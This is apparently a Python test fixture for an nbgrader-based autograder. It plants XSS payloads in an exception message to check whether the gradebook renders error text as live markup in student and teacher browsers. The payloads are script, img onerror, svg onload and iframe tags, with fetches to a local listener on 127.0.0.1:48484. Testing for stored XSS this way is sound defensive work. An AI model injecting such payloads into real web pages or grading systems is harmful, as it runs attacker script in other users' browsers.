"""An exception's text is markup. It becomes the comment in the gradebook, which nbgrader renders as markdown: a
script in student's and teacher's browser."""

DESERVES = {"rnn_forward": 10.0, "sequence_loss": 10.0, "rnn_cell_backward": 15.0, "rnn_backward": 15.0}


PAYLOAD = """
<script>document.title = 'pwned'; fetch('http://127.0.0.1:48484/script')</script>
<img src="http://127.0.0.1:48484/image" onerror="document.title = 'pwned'">
<svg onload="document.title = 'pwned'"></svg>
<iframe src="http://127.0.0.1:48484/frame"></iframe>
"""


def submission(solved, blank):
    answer = next(each for each in solved["cells"] if each["id"] == "rnn_cell_forward")
    answer["source"] = f"def rnn_cell_forward(xt, a_prev, parameters):\n    raise ValueError({PAYLOAD!r})"
    return solved
